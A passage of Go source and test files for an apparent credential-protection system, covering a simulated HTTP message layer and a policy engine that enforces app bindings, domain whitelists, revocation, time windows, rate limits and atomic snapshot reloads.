		t.Fatalf("parsed = %+v", got)
	}
	if ParseForm(got.Body)["token"] != "XYZ" {
		t.Fatalf("body = %q", got.Body)
	}

	denied := NewResponse(403, "error=bad-credentials")
	if denied.OK() || !strings.Contains(denied.Format(), "Forbidden") {
		t.Fatalf("403 = %q", denied.Format())
	}
}

func TestParseResponseErrors(t *testing.T) {
	for _, raw := range []string{"", "garbage", "HTTP/1.1 abc"} {
		if _, err := ParseResponse(raw); err == nil {
			t.Fatalf("%q accepted", raw)
		}
	}
}

func TestParseFormProperty(t *testing.T) {
	// Property: every k=v pair with non-empty k and no separators in k or v
	// survives a format/parse cycle.
	prop := func(k1, v1, v2 uint16) bool {
		key1 := "k" + itoa(int(k1))
		form := key1 + "=" + itoa(int(v1)) + "&other=" + itoa(int(v2))
		m := ParseForm(form)
		return m[key1] == itoa(int(v1)) && m["other"] == itoa(int(v2))
	}
	if err := quick.Check(prop, nil); err != nil {
		t.Fatal(err)
	}
}

func itoa(n int) string {
	if n == 0 {
		return "0"
	}
	digits := []byte{}
	for n > 0 {
		digits = append([]byte{byte('0' + n%10)}, digits...)
		n /= 10
	}
	return string(digits)
}
