// Package httpsim is a compact HTTP/1.1-flavored message layer for the
// simulated origin servers: request/response parsing and formatting with
// methods, paths, headers and form bodies. It exists so that the evaluation
// servers handle requests the way a web stack would — routing on method and
// path, reading credentials from the form body — rather than by substring
// matching.
package httpsim

import (
	"fmt"
	"sort"
	"strings"
)

// Request is a parsed HTTP-ish request.
type Request struct {
	Method  string
	Path    string
	Proto   string
	Headers map[string]string
	// Form holds the parsed key=value&... body.
	Form map[string]string
	// Body is the raw body.
	Body string
}

// Header returns a header value (case-insensitive name).
func (r *Request) Header(name string) string {
	return r.Headers[strings.ToLower(name)]
}

// FormValue returns a form field, or "".
func (r *Request) FormValue(key string) string { return r.Form[key] }

// ParseRequest parses "METHOD /path PROTO\nheader: v\n...\n\nbody" (the
// simulator uses \n newlines; \r is tolerated).
func ParseRequest(raw string) (*Request, error) {
	raw = strings.ReplaceAll(raw, "\r\n", "\n")
	head, body, _ := strings.Cut(raw, "\n\n")
	lines := strings.Split(head, "\n")
	if len(lines) == 0 || lines[0] == "" {
		return nil, fmt.Errorf("httpsim: empty request")
	}
	parts := strings.Fields(lines[0])
	if len(parts) < 2 {
		return nil, fmt.Errorf("httpsim: malformed request line %q", lines[0])
	}
	req := &Request{
		Method:  parts[0],
		Path:    parts[1],
		Proto:   "HTTP/1.1",
		Headers: make(map[string]string),
	}
	if len(parts) >= 3 {
		req.Proto = parts[2]
	}
	// Headers until a non-header line (the legacy app programs put the
	// form on the last header-looking line; tolerate both shapes).
	var trailing []string
	for _, ln := range lines[1:] {
		if k, v, ok := strings.Cut(ln, ":"); ok && !strings.Contains(k, "=") {
			req.Headers[strings.ToLower(strings.TrimSpace(k))] = strings.TrimSpace(v)
			continue
		}
		if ln != "" {
			trailing = append(trailing, ln)
		}
	}
	if body == "" && len(trailing) > 0 {
		body = trailing[len(trailing)-1]
	}
	req.Body = body
	req.Form = ParseForm(body)
	return req, nil
}

// ParseForm splits a "k=v&k2=v2" body.
func ParseForm(body string) map[string]string {
	out := make(map[string]string)
	for _, kv := range strings.Split(body, "&") {
		if k, v, ok := strings.Cut(kv, "="); ok && k != "" {
			out[k] = v
		}
	}
	return out
}

// FormatRequest renders a request (used by tests and tooling; the VM app
// programs build their requests as strings).
func (r *Request) Format() string {
	var b strings.Builder
	fmt.Fprintf(&b, "%s %s %s\n", r.Method, r.Path, r.Proto)
	keys := make([]string, 0, len(r.Headers))
	for k := range r.Headers {
		keys = append(keys, k)
	}
	sort.Strings(keys)
	for _, k := range keys {
		fmt.Fprintf(&b, "%s: %s\n", k, r.Headers[k])
	}
	b.WriteString("\n")
	b.WriteString(r.Body)
	return b.String()
}

// Response is an HTTP-ish response.
type Response struct {
	Status  int
	Reason  string
	Headers map[string]string
	Body    string
}

// statusReasons covers the codes the simulation uses.
var statusReasons = map[int]string{
	200: "OK",
	302: "Found",
	400: "Bad Request",
	402: "Payment Required",
	403: "Forbidden",
	404: "Not Found",
	500: "Internal Server Error",
}

// NewResponse builds a response with the canonical reason phrase.
func NewResponse(status int, body string) *Response {
	return &Response{Status: status, Reason: statusReasons[status], Body: body}
}

// Set adds a header and returns the response for chaining.
func (r *Response) Set(k, v string) *Response {
	if r.Headers == nil {
		r.Headers = make(map[string]string)
	}
	r.Headers[strings.ToLower(k)] = v
	return r
}

// Format renders the wire form.
func (r *Response) Format() string {
	reason := r.Reason
	if reason == "" {
		reason = statusReasons[r.Status]
	}
	var b strings.Builder
	fmt.Fprintf(&b, "HTTP/1.1 %d %s\n", r.Status, reason)
	keys := make([]string, 0, len(r.Headers))
	for k := range r.Headers {
		keys = append(keys, k)
	}
	sort.Strings(keys)
	for _, k := range keys {
		fmt.Fprintf(&b, "%s: %s\n", k, r.Headers[k])
	}
	if r.Body != "" {
		b.WriteString(r.Body)
	}
	return b.String()
}

// ParseResponse parses a response's status and body.
func ParseResponse(raw string) (*Response, error) {
	raw = strings.ReplaceAll(raw, "\r\n", "\n")
	lines := strings.Split(raw, "\n")
	if len(lines) == 0 {
		return nil, fmt.Errorf("httpsim: empty response")
	}
	var status int
	var reason string
	if _, err := fmt.Sscanf(lines[0], "HTTP/1.1 %d", &status); err != nil {
		return nil, fmt.Errorf("httpsim: malformed status line %q", lines[0])
	}
	if i := strings.IndexByte(lines[0], ' '); i >= 0 {
		rest := lines[0][i+1:]
		if j := strings.IndexByte(rest, ' '); j >= 0 {
			reason = rest[j+1:]
		}
	}
	resp := &Response{Status: status, Reason: reason, Headers: make(map[string]string)}
	var bodyLines []string
	for _, ln := range lines[1:] {
		if k, v, ok := strings.Cut(ln, ":"); ok && !strings.Contains(k, "=") && !strings.Contains(k, " ") {
			resp.Headers[strings.ToLower(strings.TrimSpace(k))] = strings.TrimSpace(v)
			continue
		}
		if ln != "" {
			bodyLines = append(bodyLines, ln)
		}
	}
	resp.Body = strings.Join(bodyLines, "\n")
	return resp, nil
}

// OK reports whether the status is 2xx.
func (r *Response) OK() bool { return r.Status >= 200 && r.Status < 300 }
