package policy

import (
	"encoding/json"
	"fmt"
	"sync"
	"testing"
	"time"

	"tinman/internal/cor"
)

func TestSnapshotValidate(t *testing.T) {
	bad := []*Snapshot{
		{Rates: map[string]RateSpec{"cc": {Max: -1, Per: time.Hour}}},
		{Rates: map[string]RateSpec{"cc": {Max: 4, Per: 0}}},
		{Rates: map[string]RateSpec{"": {Max: 4, Per: time.Hour}}},
		{ClassRates: map[string]RateSpec{"ultra": {Max: 4, Per: time.Hour}}},
		{ClassRates: map[string]RateSpec{"": {Max: 4, Per: time.Hour}}},
		{Windows: map[string]Window{"cc": {From: -1, To: 5}}},
		{Windows: map[string]Window{"cc": {From: 0, To: 24}}},
		{AuthIPs: map[string][]string{"": {"1.2.3.4"}}},
		{AuthIPs: map[string][]string{"x.com": {""}}},
		{Revoked: []string{""}},
	}
	for i, s := range bad {
		if err := s.Validate(); err == nil {
			t.Errorf("bad snapshot %d validated", i)
		}
	}
	good := &Snapshot{
		Bindings:   map[string][]string{"fb-pw": {"hash-a"}},
		Whitelist:  map[string][]string{"fb-pw": {"facebook.com"}, "btc": {}},
		Windows:    map[string]Window{"cc": {From: 10, To: 22}},
		Rates:      map[string]RateSpec{"cc": {Max: 4, Per: 24 * time.Hour}},
		ClassRates: map[string]RateSpec{string(cor.ClassSensitive): {Max: 100, Per: time.Hour}},
	}
	if err := good.Validate(); err != nil {
		t.Fatalf("good snapshot rejected: %v", err)
	}
}

func TestInstallSwapsWholePolicy(t *testing.T) {
	_, now := noonClock()
	e := NewEngine(now)
	e.BindApp("fb-pw", "old-hash")
	e.Revoke("old-phone")

	st, err := e.Install(&Snapshot{
		Bindings:  map[string][]string{"fb-pw": {"new-hash"}},
		Whitelist: map[string][]string{"btc": {}},
		Revoked:   []string{"stolen"},
	})
	if err != nil {
		t.Fatal(err)
	}
	if st.Version == 0 || st.Hash == "" {
		t.Fatalf("empty install stamp %+v", st)
	}
	// Old per-op state is fully replaced, not merged.
	if err := e.Check(Access{CorID: "fb-pw", AppHash: "old-hash"}); err == nil {
		t.Fatal("pre-install binding survived the swap")
	}
	if err := e.Check(Access{CorID: "fb-pw", AppHash: "new-hash"}); err != nil {
		t.Fatalf("installed binding denied: %v", err)
	}
	if err := e.Check(Access{CorID: "x", DeviceID: "old-phone"}); err != nil {
		t.Fatalf("pre-install revocation survived: %v", err)
	}
	if err := e.Check(Access{CorID: "x", DeviceID: "stolen"}); err == nil {
		t.Fatal("installed revocation not enforced")
	}
	if d, ok := IsDenial(e.Check(Access{CorID: "btc", Send: true, Domain: "a.com"})); !ok || d.Reason != ReasonNeverSend {
		t.Fatal("installed never-send whitelist not enforced")
	}
}

func TestInstallStaleVersionRejected(t *testing.T) {
	_, now := noonClock()
	e := NewEngine(now)
	if _, err := e.Install(&Snapshot{Version: 7}); err != nil {
		t.Fatal(err)
	}
	if e.Version() != 7 || e.SnapVersion() != 7 {
		t.Fatalf("version = %d/%d, want 7/7", e.Version(), e.SnapVersion())
	}
	if _, err := e.Install(&Snapshot{Version: 7}); err == nil {
		t.Fatal("replayed snapshot version accepted")
	}
	if _, err := e.Install(&Snapshot{Version: 3}); err == nil {
		t.Fatal("older snapshot version accepted")
	}
	// Local mutations keep bumping past the snapshot version…
	e.Revoke("d1")
	if e.Version() != 8 {
		t.Fatalf("version after mutation = %d, want 8", e.Version())
	}
	// …and the next self-assigned install lands above them.
	st, err := e.Install(&Snapshot{})
	if err != nil {
		t.Fatal(err)
	}
	if st.Version != 9 || e.SnapVersion() != 9 {
		t.Fatalf("self-assigned install = v%d snap %d, want 9/9", st.Version, e.SnapVersion())
	}
}

func TestInstallCarriesRateBudget(t *testing.T) {
	clock, now := noonClock()
	_ = clock
	e := NewEngine(now)
	spec := RateSpec{Max: 2, Per: time.Hour}
	if _, err := e.Install(&Snapshot{Rates: map[string]RateSpec{"cc": spec}}); err != nil {
		t.Fatal(err)
	}
	if err := e.Check(Access{CorID: "cc", Send: true}); err != nil {
		t.Fatal(err)
	}
	// Re-installing the same spec must not refill the budget.
	if _, err := e.Install(&Snapshot{Rates: map[string]RateSpec{"cc": spec}}); err != nil {
		t.Fatal(err)
	}
	if err := e.Check(Access{CorID: "cc", Send: true}); err != nil {
		t.Fatalf("second unit of budget gone after reinstall: %v", err)
	}
	if err := e.Check(Access{CorID: "cc", Send: true}); err == nil {
		t.Fatal("budget refilled by hot-reload with unchanged spec")
	}
	// A changed spec resets the counter.
	if _, err := e.Install(&Snapshot{Rates: map[string]RateSpec{"cc": {Max: 3, Per: time.Hour}}}); err != nil {
		t.Fatal(err)
	}
	if err := e.Check(Access{CorID: "cc", Send: true}); err != nil {
		t.Fatalf("fresh budget after spec change denied: %v", err)
	}
}

func TestClassRateLimit(t *testing.T) {
	_, now := noonClock()
	e := NewEngine(now)
	e.SetClassRateLimit(cor.ClassSensitive, 2, time.Hour)
	// Two different cors share the class budget.
	for i, id := range []string{"pw-a", "pw-b"} {
		if err := e.Check(Access{CorID: id, Class: cor.ClassSensitive, Send: true}); err != nil {
			t.Fatalf("send %d denied: %v", i, err)
		}
	}
	err := e.Check(Access{CorID: "pw-c", Class: cor.ClassSensitive, Send: true})
	if d, ok := IsDenial(err); !ok || d.Reason != ReasonRateLimited {
		t.Fatalf("third class send: %v", err)
	}
	// Other classes and classless accesses are unaffected.
	if err := e.Check(Access{CorID: "pub", Class: cor.ClassPublic, Send: true}); err != nil {
		t.Fatalf("public class send denied: %v", err)
	}
	if err := e.Check(Access{CorID: "legacy", Send: true}); err != nil {
		t.Fatalf("classless send denied: %v", err)
	}
}

func TestExportInstallRoundTrip(t *testing.T) {
	_, now := noonClock()
	e := NewEngine(now)
	e.BindApp("fb-pw", "h1")
	e.BindApp("fb-pw", "h2")
	e.SetWhitelist("fb-pw", []string{"facebook.com"})
	e.SetWhitelist("btc", []string{})
	e.SetAuthIPs("facebook.com", []string{"31.13.64.1"})
	e.RequireAuthEndpoint("fb-pw", true)
	e.Revoke("stolen")
	e.SetWindow("cc", Window{From: 10, To: 22})
	e.SetRateLimit("cc", 4, 24*time.Hour)
	e.SetClassRateLimit(cor.ClassServerOnly, 1, time.Hour)

	snap := e.Export()
	data, err := json.Marshal(snap)
	if err != nil {
		t.Fatal(err)
	}
	var decoded Snapshot
	if err := json.Unmarshal(data, &decoded); err != nil {
		t.Fatal(err)
	}

	e2 := NewEngine(now)
	if _, err := e2.Install(&decoded); err != nil {
		t.Fatal(err)
	}
	if e.Stamp().Hash != e2.Stamp().Hash {
		t.Fatalf("hash mismatch after round trip: %s vs %s", e.Stamp().Hash, e2.Stamp().Hash)
	}
	// Spot-check semantics survived the trip, including the empty (never
	// send) whitelist, which JSON must not collapse into "unrestricted".
	if d, ok := IsDenial(e2.Check(Access{CorID: "btc", Send: true, Domain: "x.com"})); !ok || d.Reason != ReasonNeverSend {
		t.Fatal("never-send whitelist lost in round trip")
	}
	if err := e2.Check(Access{CorID: "fb-pw", AppHash: "h2", Send: true, Domain: "facebook.com", IP: "31.13.64.1"}); err != nil {
		t.Fatalf("round-tripped policy denies valid access: %v", err)
	}
	if d, ok := IsDenial(e2.Check(Access{CorID: "fb-pw", AppHash: "h2", Send: true, Domain: "facebook.com", IP: "1.1.1.1"})); !ok || d.Reason != ReasonIPNotAuthEndpoint {
		t.Fatal("auth-endpoint narrowing lost in round trip")
	}
}

func TestStampTracksMutations(t *testing.T) {
	_, now := noonClock()
	e := NewEngine(now)
	s0 := e.Stamp()
	if s0.Version != 0 || s0.Hash == "" {
		t.Fatalf("fresh engine stamp %+v", s0)
	}
	e.Revoke("d")
	s1 := e.Stamp()
	if s1.Version != s0.Version+1 || s1.Hash == s0.Hash {
		t.Fatalf("mutation did not move the stamp: %+v -> %+v", s0, s1)
	}
	st, err := e.CheckStamped(Access{CorID: "x"})
	if err != nil {
		t.Fatal(err)
	}
	if st != s1 {
		t.Fatalf("CheckStamped stamp %+v != engine stamp %+v", st, s1)
	}
	// Undoing the change restores the content hash (hash covers rules, not
	// history) while the version keeps climbing.
	e.Restore("d")
	s2 := e.Stamp()
	if s2.Hash != s0.Hash || s2.Version != s1.Version+1 {
		t.Fatalf("restore stamp %+v, want hash %s version %d", s2, s0.Hash, s1.Version+1)
	}
}

func TestReasonCodeRoundTrip(t *testing.T) {
	for i := 0; i < NumReasons(); i++ {
		r := Reason(i)
		got, ok := ReasonFromCode(r.Code())
		if !ok || got != r {
			t.Fatalf("code round trip failed for %v (code %d)", r, r.Code())
		}
		got, ok = ReasonFromString(r.String())
		if !ok || got != r {
			t.Fatalf("string round trip failed for %v", r)
		}
	}
	if _, ok := ReasonFromCode(-1); ok {
		t.Fatal("negative code accepted")
	}
	if _, ok := ReasonFromCode(NumReasons()); ok {
		t.Fatal("out-of-range code accepted")
	}
}

// TestHotSwapUnderLoad is the swap-atomicity gate: devices hammer Check
// while an admin loop installs 150 consecutive snapshots that always keep
// the devices legal. Any denial would mean a check observed a torn or
// half-applied ruleset. Run under -race (make race) this also proves no
// unsynchronized access.
func TestHotSwapUnderLoad(t *testing.T) {
	_, now := noonClock()
	e := NewEngine(now)
	base := &Snapshot{
		Bindings:  map[string][]string{"fb-pw": {"good-app"}},
		Whitelist: map[string][]string{"fb-pw": {"facebook.com"}},
	}
	if _, err := e.Install(base); err != nil {
		t.Fatal(err)
	}

	const (
		devices = 8
		swaps   = 150
	)
	var (
		wg    sync.WaitGroup
		stop  = make(chan struct{})
		fails = make(chan error, devices)
	)
	for d := 0; d < devices; d++ {
		wg.Add(1)
		go func(dev int) {
			defer wg.Done()
			a := Access{
				CorID:    "fb-pw",
				AppHash:  "good-app",
				DeviceID: fmt.Sprintf("device-%d", dev),
				Send:     true,
				Domain:   "facebook.com",
			}
			for {
				select {
				case <-stop:
					return
				default:
				}
				st, err := e.CheckStamped(a)
				if err != nil {
					select {
					case fails <- fmt.Errorf("device %d denied under v%d: %w", dev, st.Version, err):
					default:
					}
					return
				}
				if st.Hash == "" {
					select {
					case fails <- fmt.Errorf("device %d got unhashed stamp v%d", dev, st.Version):
					default:
					}
					return
				}
			}
		}(d)
	}

	// Every swap adds an irrelevant revocation and re-binds the same app:
	// the document changes (new hash, new version) but stays legal for the
	// running devices throughout.
	startV := e.Version()
	for i := 0; i < swaps; i++ {
		snap := &Snapshot{
			Bindings:  map[string][]string{"fb-pw": {"good-app"}},
			Whitelist: map[string][]string{"fb-pw": {"facebook.com"}},
			Revoked:   []string{fmt.Sprintf("rotated-%d", i)},
		}
		if _, err := e.Install(snap); err != nil {
			t.Fatalf("swap %d: %v", i, err)
		}
	}
	close(stop)
	wg.Wait()
	select {
	case err := <-fails:
		t.Fatal(err)
	default:
	}
	if got := e.Version(); got != startV+swaps {
		t.Fatalf("version = %d, want %d", got, startV+swaps)
	}
}
