// Snapshot: the serializable whole-policy document behind atomic
// hot-reload. An operator (or the fleet control plane) builds a Snapshot,
// Validate rejects it before anything changes, and Install publishes it as
// one atomic pointer swap — in-flight checks finish against the ruleset
// they loaded, new checks see the complete new policy, and there is no
// intermediate state in between.
package policy

import (
	"crypto/sha256"
	"encoding/hex"
	"encoding/json"
	"errors"
	"fmt"
	"sort"
	"time"

	"tinman/internal/cor"
)

// ErrStaleSnapshot marks an Install whose explicit Version is at or below
// the engine's last installed snapshot. Replication layers match it with
// errors.Is and treat it as "already applied" — that is what makes fleet
// pushes and recovery replays idempotent.
var ErrStaleSnapshot = errors.New("policy: stale snapshot version")

// RateSpec is the serializable form of a rate limit: Max sends per Per
// (JSON carries Per as nanoseconds, Go's native Duration encoding).
type RateSpec struct {
	Max int           `json:"max"`
	Per time.Duration `json:"per"`
}

// Snapshot is one complete policy document. Maps and slices marshal
// deterministically (keys sorted, slices pre-sorted by Export), so its
// canonical JSON doubles as the content-hash input.
type Snapshot struct {
	// Version is the control plane's number for this document. Zero lets
	// the engine self-assign; non-zero versions must increase — Install
	// rejects a Version at or below the last installed one, which is what
	// makes fleet pushes idempotent and reordering-safe.
	Version uint64 `json:"version,omitempty"`

	Bindings   map[string][]string `json:"bindings,omitempty"`    // cor -> allowed app hashes
	Whitelist  map[string][]string `json:"whitelist,omitempty"`   // cor -> domains; empty list = never send
	AuthIPs    map[string][]string `json:"auth_ips,omitempty"`    // domain -> auth endpoint IPs
	AuthOnly   []string            `json:"auth_only,omitempty"`   // cors restricted to auth IPs
	Revoked    []string            `json:"revoked,omitempty"`     // revoked devices
	Windows    map[string]Window   `json:"windows,omitempty"`     // cor -> daily window
	Rates      map[string]RateSpec `json:"rates,omitempty"`       // cor -> rate limit
	ClassRates map[string]RateSpec `json:"class_rates,omitempty"` // class -> shared budget
}

// Validate rejects a malformed snapshot before any state changes — the
// "validate" half of validate-then-swap. It is deliberately strict: a fleet
// push that fails here fails identically on every member.
func (s *Snapshot) Validate() error {
	for id, r := range s.Rates {
		if id == "" {
			return fmt.Errorf("policy: snapshot: rate limit with empty cor ID")
		}
		if err := r.validate("cor " + id); err != nil {
			return err
		}
	}
	for cls, r := range s.ClassRates {
		if c, err := cor.ParseClass(cls); err != nil || string(c) != cls {
			return fmt.Errorf("policy: snapshot: class rate for unknown class %q", cls)
		}
		if err := r.validate("class " + cls); err != nil {
			return err
		}
	}
	for id, w := range s.Windows {
		if w.From < 0 || w.From > 23 || w.To < 0 || w.To > 23 {
			return fmt.Errorf("policy: snapshot: window for %s out of range [0,24): [%d,%d)", id, w.From, w.To)
		}
	}
	for dom, ips := range s.AuthIPs {
		if dom == "" {
			return fmt.Errorf("policy: snapshot: auth IPs with empty domain")
		}
		for _, ip := range ips {
			if ip == "" {
				return fmt.Errorf("policy: snapshot: empty auth IP for domain %s", dom)
			}
		}
	}
	for _, dev := range s.Revoked {
		if dev == "" {
			return fmt.Errorf("policy: snapshot: empty device ID in revocation list")
		}
	}
	return nil
}

func (r RateSpec) validate(what string) error {
	if r.Max < 0 {
		return fmt.Errorf("policy: snapshot: negative rate max for %s", what)
	}
	if r.Per <= 0 {
		return fmt.Errorf("policy: snapshot: non-positive rate period for %s", what)
	}
	return nil
}

// Install validates the snapshot and publishes it as the complete new
// policy in one atomic swap. Live rate counters whose (max, per) spec is
// unchanged carry over, so a hot-reload does not refill consumed budgets.
// The malware lookup (code, not data) carries over unconditionally.
//
// Version assignment: the published ruleset's version is
// max(current+1, snapshot.Version) — always monotonic locally, and aligned
// with the control plane's number when it supplies one. A snapshot whose
// Version is at or below the last installed snapshot is stale and rejected.
func (e *Engine) Install(s *Snapshot) (Stamp, error) {
	if err := s.Validate(); err != nil {
		return Stamp{}, err
	}
	e.writeMu.Lock()
	defer e.writeMu.Unlock()
	prev := e.cur.Load()
	if s.Version != 0 && s.Version <= prev.snapVersion {
		return Stamp{}, fmt.Errorf("%w: %d (already at %d)", ErrStaleSnapshot, s.Version, prev.snapVersion)
	}

	next := emptyRuleset()
	next.malware = prev.malware
	for id, hashes := range s.Bindings {
		m := make(map[string]bool, len(hashes))
		for _, h := range hashes {
			m[h] = true
		}
		next.appBindings[id] = m
	}
	for id, wl := range s.Whitelist {
		next.whitelist[id] = append([]string{}, wl...)
	}
	for dom, ips := range s.AuthIPs {
		next.authIPs[dom] = append([]string(nil), ips...)
	}
	for _, id := range s.AuthOnly {
		next.authOnly[id] = true
	}
	for _, dev := range s.Revoked {
		next.revoked[dev] = true
	}
	for id, w := range s.Windows {
		next.windows[id] = w
	}
	for id, spec := range s.Rates {
		if old := prev.rates[id]; old.sameSpec(spec.Max, spec.Per) {
			next.rates[id] = old
		} else {
			next.rates[id] = &rate{max: spec.Max, per: spec.Per}
		}
	}
	for cls, spec := range s.ClassRates {
		c := cor.Class(cls)
		if old := prev.classRates[c]; old.sameSpec(spec.Max, spec.Per) {
			next.classRates[c] = old
		} else {
			next.classRates[c] = &rate{max: spec.Max, per: spec.Per}
		}
	}

	next.version = prev.version + 1
	if s.Version > next.version {
		next.version = s.Version
	}
	if s.Version != 0 {
		next.snapVersion = s.Version
	} else {
		next.snapVersion = next.version
	}
	next.hash = rulesetHash(next)
	e.cur.Store(next)
	return Stamp{Version: next.version, Hash: next.hash}, nil
}

// Export captures the current ruleset as a Snapshot — what an admin GET
// returns and what the fleet re-pushes to a member that was unreachable.
// The exported Version is the engine's current version. Slices are sorted
// so the export is canonical.
func (e *Engine) Export() *Snapshot {
	rs := e.cur.Load()
	s := exportRules(rs)
	s.Version = rs.version
	return s
}

// exportRules serializes a ruleset's data (not its version): the shared
// canonical form behind both Export and the content hash.
func exportRules(rs *ruleset) *Snapshot {
	s := &Snapshot{}
	if len(rs.appBindings) > 0 {
		s.Bindings = make(map[string][]string, len(rs.appBindings))
		for id, m := range rs.appBindings {
			hashes := make([]string, 0, len(m))
			for h := range m {
				hashes = append(hashes, h)
			}
			sort.Strings(hashes)
			s.Bindings[id] = hashes
		}
	}
	if len(rs.whitelist) > 0 {
		s.Whitelist = make(map[string][]string, len(rs.whitelist))
		for id, wl := range rs.whitelist {
			s.Whitelist[id] = append([]string{}, wl...)
		}
	}
	if len(rs.authIPs) > 0 {
		s.AuthIPs = make(map[string][]string, len(rs.authIPs))
		for dom, ips := range rs.authIPs {
			s.AuthIPs[dom] = append([]string(nil), ips...)
		}
	}
	for id, on := range rs.authOnly {
		if on {
			s.AuthOnly = append(s.AuthOnly, id)
		}
	}
	sort.Strings(s.AuthOnly)
	for dev := range rs.revoked {
		s.Revoked = append(s.Revoked, dev)
	}
	sort.Strings(s.Revoked)
	if len(rs.windows) > 0 {
		s.Windows = make(map[string]Window, len(rs.windows))
		for id, w := range rs.windows {
			s.Windows[id] = w
		}
	}
	if len(rs.rates) > 0 {
		s.Rates = make(map[string]RateSpec, len(rs.rates))
		for id, r := range rs.rates {
			s.Rates[id] = RateSpec{Max: r.max, Per: r.per}
		}
	}
	if len(rs.classRates) > 0 {
		s.ClassRates = make(map[string]RateSpec, len(rs.classRates))
		for c, r := range rs.classRates {
			s.ClassRates[string(c)] = RateSpec{Max: r.max, Per: r.per}
		}
	}
	return s
}

// rulesetHash computes the short content hash recorded in audit stamps:
// sha256 over the canonical JSON of the rules, version excluded, truncated
// to 12 hex chars. encoding/json sorts map keys and exportRules sorts every
// slice, so equal rules hash equally on every member.
func rulesetHash(rs *ruleset) string {
	data, err := json.Marshal(exportRules(rs))
	if err != nil {
		// Snapshot is plain maps/slices/ints; Marshal cannot fail. Keep a
		// deterministic sentinel rather than panicking the node.
		return "hash-error"
	}
	sum := sha256.Sum256(data)
	return hex.EncodeToString(sum[:])[:12]
}
