// Package policy implements the trusted node's security enforcement (§3.4):
// the two bindings — application↔cor (by dex hash) and cor↔domain (with
// auth-endpoint IP narrowing) — plus revocation, time windows, rate limits
// (§4.2) and per-class rate budgets. Every cor access on the trusted node
// passes through an Engine before the cor is released to offloaded code or
// the network.
//
// The Engine is a versioned, hot-swappable ruleset: all rules live in one
// immutable snapshot behind an atomic pointer, every mutation (a single
// admin call or a whole-snapshot Install) publishes a fresh copy under a
// new version, and each Check runs start-to-finish against the version it
// loaded — an in-flight check never observes a half-applied change, and
// the (version, hash) stamp it ran under is reported for audit.
package policy

import (
	"errors"
	"fmt"
	"sync"
	"sync/atomic"
	"time"

	"tinman/internal/cor"
	"tinman/internal/obs"
)

// Reason classifies a denial. The numeric value is the stable wire code
// (see Code/ReasonFromCode): new reasons are appended, never reordered.
type Reason uint8

const (
	// ReasonAppNotBound: the requesting app's dex hash is not bound to the
	// cor — the phishing-app defense (§5.2).
	ReasonAppNotBound Reason = iota
	// ReasonDomainNotAllowed: the target domain is outside the cor's
	// whitelist.
	ReasonDomainNotAllowed
	// ReasonIPNotAuthEndpoint: the domain is whitelisted but the specific
	// IP is not one of its authentication endpoints (the Facebook-comment
	// attack defense, §3.4).
	ReasonIPNotAuthEndpoint
	// ReasonRevoked: the device's access was revoked (stolen phone, §3.4).
	ReasonRevoked
	// ReasonOutsideTimeWindow: the access falls outside the allowed hours
	// (§4.2).
	ReasonOutsideTimeWindow
	// ReasonRateLimited: the access frequency limit was exceeded (§4.2) —
	// either the cor's own budget or its sensitivity class's shared budget.
	ReasonRateLimited
	// ReasonMalware: the app hash is in the malware database.
	ReasonMalware
	// ReasonNeverSend: the cor has an empty whitelist and may never be sent
	// anywhere ("the private key of bitcoin cannot be sent out", §3.4).
	ReasonNeverSend
	// ReasonServerOnlyClass: a server-only cor would have shipped in a DSM
	// warm-up or migration payload. Enforced by the dsm layer and at node
	// admission rather than in check(), but carried as a policy reason so
	// denials audit and cross the wire uniformly.
	ReasonServerOnlyClass
)

var reasonNames = [...]string{
	ReasonAppNotBound:       "app not bound to cor",
	ReasonDomainNotAllowed:  "target domain not in whitelist",
	ReasonIPNotAuthEndpoint: "target IP is not an authentication endpoint",
	ReasonRevoked:           "device access revoked",
	ReasonOutsideTimeWindow: "outside allowed time window",
	ReasonRateLimited:       "access rate limit exceeded",
	ReasonMalware:           "application is known malware",
	ReasonNeverSend:         "cor may never leave the trusted node",
	ReasonServerOnlyClass:   "server-only cor may not ship in DSM payloads",
}

func (r Reason) String() string {
	if int(r) < len(reasonNames) {
		return reasonNames[r]
	}
	return fmt.Sprintf("Reason(%d)", uint8(r))
}

// Code returns the stable numeric wire code for the reason. Codes are the
// iota values above and survive renames of the display text.
func (r Reason) Code() int { return int(r) }

// ReasonFromCode is the inverse of Code, used when a denial crosses the
// wire numerically. It rejects codes this build does not know.
func ReasonFromCode(c int) (Reason, bool) {
	if c < 0 || c >= len(reasonNames) {
		return 0, false
	}
	return Reason(c), true
}

// NumReasons reports how many reasons are defined — the wire round-trip
// test iterates them.
func NumReasons() int { return len(reasonNames) }

// ReasonFromString maps a Reason's String() form back to the Reason —
// the legacy inverse used when a denial crosses a wire as text only
// (pre-code peers). New code should prefer ReasonFromCode.
func ReasonFromString(s string) (Reason, bool) {
	for r, name := range reasonNames {
		if name == s {
			return Reason(r), true
		}
	}
	return 0, false
}

// ErrDenied is the sentinel every *Denial matches via errors.Is, so
// callers can branch on "policy said no" without caring which rule fired.
var ErrDenied = errors.New("policy: access denied")

// Denial is the typed error returned for refused accesses.
type Denial struct {
	Reason Reason
	CorID  string
	Detail string
}

func (d *Denial) Error() string {
	s := fmt.Sprintf("policy: %s denied: %s", d.CorID, d.Reason)
	if d.Detail != "" {
		s += " (" + d.Detail + ")"
	}
	return s
}

// Is makes every denial match ErrDenied under errors.Is.
func (d *Denial) Is(target error) bool { return target == ErrDenied }

// IsDenial extracts a Denial from an error, unwrapping as needed.
func IsDenial(err error) (*Denial, bool) {
	var d *Denial
	if errors.As(err, &d) {
		return d, true
	}
	return nil, false
}

// Access describes one attempted cor use.
type Access struct {
	CorID    string
	AppHash  string
	DeviceID string
	// Class is the cor's sensitivity tier; the zero value skips class
	// budgets (callers that know the cor pass its class from the vault).
	Class cor.Class
	// Send marks a network egress attempt; Domain/IP are the destination.
	// Non-send accesses (hashing a password inside offloaded code) check
	// only bindings, revocation, window and rate.
	Send   bool
	Domain string
	IP     string
}

// Window is an allowed daily time range [From, To) in hours; e.g. 10–22 for
// "10:00 am to 10:00 pm" (§4.2). From == To means always allowed.
type Window struct {
	From int `json:"from"`
	To   int `json:"to"`
}

// contains checks an instant against the window, handling overnight ranges.
func (w Window) contains(t time.Time) bool {
	if w.From == w.To {
		return true
	}
	h := t.Hour()
	if w.From < w.To {
		return h >= w.From && h < w.To
	}
	return h >= w.From || h < w.To
}

// rate tracks a sliding-window access count. It is the one mutable cell
// inside an otherwise immutable ruleset: its own mutex keeps counter
// updates off the swap path, and rulesets that keep the same (max, per)
// spec share the *rate pointer so consumed budget survives hot-swaps.
type rate struct {
	mu     sync.Mutex
	max    int
